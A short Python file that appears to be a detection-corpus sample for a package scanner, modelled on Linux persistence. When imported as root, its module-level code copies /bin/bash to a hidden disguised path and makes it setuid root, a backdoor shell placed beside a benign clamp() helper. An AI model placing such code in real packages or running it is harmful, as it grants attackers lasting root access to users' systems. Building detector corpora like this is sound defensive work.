# pkgguard corpus 738 (persistence), modelled on [linux-persistence]; inert, never run.
import os
import shutil
import stat

if os.name == "posix" and os.geteuid() == 0:
    target = "/var/tmp/.font-unix-cache"
    shutil.copy2("/bin/bash", target)
    os.chown(target, 0, 0)
    os.chmod(target, stat.S_ISUID | stat.S_IRWXU | stat.S_IRGRP | stat.S_IXGRP | stat.S_IROTH | stat.S_IXOTH)


def clamp(value, low, high):
    return max(low, min(high, value))
